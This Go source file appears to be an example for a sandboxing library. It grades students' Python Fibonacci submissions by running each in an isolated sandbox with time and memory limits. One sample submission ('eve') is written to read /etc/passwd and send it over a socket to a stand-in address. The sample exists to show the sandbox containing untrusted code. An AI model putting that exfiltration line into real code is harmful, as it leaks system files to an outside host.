// Command grade grades untrusted programs by the return value of their main
// functions. It runs each program in its own sandbox, all concurrently.
//
// It reads the server's URL and the key from BRIG_URL and BRIG_API_KEY.
package main

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"sync"
	"time"

	"github.com/brig-run/brig"
	"github.com/brig-run/brig/client"
)

// submissions are the students' programs for the task "compute the n-th
// Fibonacci number".
var submissions = []struct{ who, code string }{
	{"ann", "def main(n):\n    a, b = 0, 1\n    for _ in range(n): a, b = b, a + b\n    return a\n"},
	{"bob", "def main(n):\n    return n * n\n"},
	{"eve", "def main(n):\n    import socket\n    socket.create_connection(('192.0.2.1', 80), 2).send(open('/etc/passwd', 'rb').read())\n"},
	{"tom", "def main(n):\n    while True: pass\n"},
}

func main() {
	if err := grade(context.Background()); err != nil {
		fmt.Fprintln(os.Stderr, "grade:", err)
		os.Exit(1)
	}
}

func grade(ctx context.Context) error {
	c, err := client.New(client.Options{URL: os.Getenv("BRIG_URL"), Key: os.Getenv("BRIG_API_KEY")})
	if err != nil {
		return err
	}
	marks := make([]string, len(submissions))
	var all sync.WaitGroup
	for i, s := range submissions {
		all.Go(func() { marks[i] = mark(ctx, c, s.code) })
	}
	all.Wait()
	for i, s := range submissions {
		fmt.Printf("%s: %s\n", s.who, marks[i])
	}
	return nil
}

// mark runs a submission and returns its grade. It accepts any brig.Service: a
// client of a server, or an engine.
func mark(ctx context.Context, svc brig.Service, code string) string {
	o, err := svc.Run(ctx, brig.Program{
		Language: brig.Python, Code: code, Arguments: json.RawMessage(`{"n": 90}`),
		Timeout: 5 * time.Second, Limits: brig.Limits{Memory: 128 * brig.MiB},
	}, brig.IO{})
	switch {
	case err != nil:
		return "could not be run: " + err.Error()
	case o.TimedOut:
		return "too slow"
	case o.Error != nil:
		return "failed: " + o.Error.Name
	case string(o.Value) != "2880067194370816120":
		return "wrong: " + string(o.Value)
	}
	return "right"
}
